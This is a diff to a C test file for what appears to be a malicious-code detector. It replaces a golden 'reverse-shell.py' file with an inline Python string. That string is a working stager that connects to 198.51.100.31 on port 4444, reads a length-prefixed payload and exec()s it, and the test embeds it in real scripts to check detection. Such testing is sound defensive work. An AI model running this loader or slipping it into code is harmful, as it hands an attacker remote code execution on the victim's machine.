@@ -320,10 +320,16 @@ static void test_real_code(void)
 					     "scripts/vm.d/image.py",
 					     "scripts/vm.d/mirror.py",
 					     "scripts/vm.d/main.py" };
+	static const char evil[] =
+		"import socket, struct\ns = socket.socket(2, 1)\n"
+		"s.connect(('198.51.100.31', 4444))\n"
+		"l = struct.unpack('>I', s.recv(4))[0]\nd = s.recv(l)\n"
+		"while len(d) < l: d += s.recv(l - len(d))\n"
+		"exec(d, {'s': s})\n";
 	enum { FILES = sizeof(paths) / sizeof(*paths), NOWHERE = FILES + 1 };
-	size_t size, evil_size, n;
-	char *evil = slurp(GOLDEN "reverse-shell.py", &evil_size), *code;
-	char *text = malloc(300000);
+	const size_t evil_size = sizeof(evil) - 1;
+	size_t size, n;
+	char *text = malloc(300000), *code;
 	struct mpy_verdict *v;
 
 	for (size_t where = 0; where <= NOWHERE; where++) {
@@ -347,7 +353,6 @@ static void test_real_code(void)
 		mpy_verdict_free(v);
 	}
 	free(text);
-	free(evil);
 }
 
 static void test_padding(void)
